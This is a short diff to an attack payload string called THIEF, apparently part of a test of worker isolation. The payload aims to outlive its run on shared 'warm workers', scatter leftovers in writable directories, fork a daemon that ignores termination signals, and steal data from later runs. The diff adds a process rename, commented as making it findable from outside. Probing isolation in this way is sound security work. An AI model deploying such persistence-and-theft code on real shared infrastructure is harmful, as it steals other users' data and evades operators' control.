@@ -859,7 +859,7 @@ print("reached:", _atk_json.dumps(_atk_report)[:3000])
 # Against warm workers: stay alive after my run, by every means, and steal what comes next.
 THIEF = r"""
 # ---- outlive my run: a daemon, a thread, leftovers in every writable place ----
-import fcntl, signal, socket, threading
+import ctypes, fcntl, signal, socket, threading
 _atk_loot_places = ["/tmp", "/dev/shm", _atk_os.path.expanduser("~"), "/scratch", "/var/tmp", "/run/lock"]
 _atk_look_in = ["/inbox", "/runs", "/scratch", "/tmp", "/dev/shm", "/", "/proc"]
 
@@ -925,6 +925,7 @@ if not _ATK["host"]:
         if _atk_os.fork() == 0:
             for _atk_signal in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                 signal.signal(_atk_signal, signal.SIG_IGN)
+            ctypes.CDLL(None).prctl(15, b"alpaca-loot", 0, 0, 0)  # PR_SET_NAME: findable from outside
             _atk_serve()
         _atk_os._exit(0)
     _atk_os.wait()
